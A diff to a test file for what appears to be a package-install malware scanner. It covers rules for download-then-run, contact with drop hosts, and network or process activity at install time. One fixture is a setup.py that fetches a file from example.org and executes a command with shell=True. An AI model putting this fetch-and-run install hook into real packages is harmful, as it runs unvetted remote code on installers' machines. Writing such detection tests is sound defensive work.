@@ -4,7 +4,7 @@ import downloadThenRun from '../../../src/rules/download-then-run.js';
 import dropHostContact from '../../../src/rules/drop-host-contact.js';
 import networkAtInstall from '../../../src/rules/network-at-install.js';
 import processAtInstall from '../../../src/rules/process-at-install.js';
-import { analysedSdist, type Files } from './trees.js';
+import { analysedSdist, startIn, type Files } from './trees.js';
 
 async function severities(files: Files, rules: Readonly<Record<string, Rule>>): Promise<readonly string[]> {
   const { findings } = await analysedSdist(files, rules);
@@ -52,4 +52,14 @@ test.each([
 ])('setup.py that %s what it fetched', async (_, command, found) => {
   const setup = `import subprocess, urllib.request\nname = where()\nurllib.request.urlretrieve("https://example.org/x", name)\nsubprocess.call(${command}, shell=True)\n`;
   expect(await severities({ 'setup.py': setup }, { downloadThenRun })).toEqual(found);
+});
+
+test('a module that a build takes its version from is not started by it, whoever else calls its functions', async () => {
+  const files = {
+    'setup.py': 'from setuptools import setup\nsetup()\n',
+    'setup.cfg': '[metadata]\nversion = attr: helper.__version__\n[options]\npy_modules = helper\n',
+    'helper.py': `__version__ = "1"\n${startIn('main')}if __name__ == "__main__":\n    main()\n`,
+    'test_helper.py': 'import helper\ndef test_it():\n    helper.main("x")\n',
+  };
+  expect((await analysedSdist(files, { processAtInstall })).findings).toEqual([]);
 });
